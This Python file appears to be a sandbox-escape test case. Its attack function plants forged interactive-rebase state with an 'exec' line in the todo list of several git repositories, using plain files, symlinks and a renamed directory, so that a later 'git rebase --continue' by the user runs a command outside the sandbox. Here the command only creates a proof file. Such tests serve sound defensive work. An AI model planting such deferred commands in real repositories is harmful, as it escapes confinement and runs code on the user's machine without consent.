"""Leaves rebases under way in the user's repositories, whose lists run a command as soon as
somebody says git rebase --continue.

layer: sweep
control: without a sandbox the commands run
"""
import os

NEEDS = ["git"]
GIT = ("git", "-c", "user.name=t", "-c", "user.email=t@example.com")
WAYS = ("file", "link", "directory", "renamed")


def scene(s):
    s.proof = os.path.join(s.outside, "proof")
    s.args = {"proof": s.proof, "ways": WAYS}
    for way in WAYS:
        path = os.path.join(s.ws, way)
        s.t.run("git", "init", "-q", "-b", "main", path)
        s.t.run(*GIT, "commit", "-q", "--allow-empty", "-m", "first", cwd=path)
    s.t.write(os.path.join(s.ws, "renamed"),
              {"data/git-rebase-todo": f"exec touch {s.proof}.renamed\n"})


def attack(a):
    for way in a["ways"]:
        git, state = way + "/.git", way + "/.git/rebase-merge"
        head = slurp(git + "/refs/heads/main").strip()
        if way == "renamed":
            os.rename("renamed/data", state)
        elif way == "directory":
            os.mkdir("directory/state")
            os.symlink("../state", state)
        else:
            os.mkdir(state)
        if way != "renamed":
            put(state + ("/todo" if way == "link" else "/git-rebase-todo"),
                f"exec touch {a['proof']}.{way}\n")
        if way == "link":
            os.symlink("todo", state + "/git-rebase-todo")
        for name, text in (("head-name", "refs/heads/main\n"), ("onto", head + "\n"),
                           ("orig-head", head + "\n"), ("interactive", ""), ("end", "1\n"),
                           ("msgnum", "0\n"),
                           ("done", "")):
            put(state + "/" + name, text)
        put(git + "/HEAD", head + "\n")


def escaped(s, r):
    for way in WAYS:
        s.t.run(*GIT, "rebase", "--continue", cwd=os.path.join(s.ws, way))
    return (all if s.control else any)(os.path.exists(f"{s.proof}.{way}") for way in WAYS)
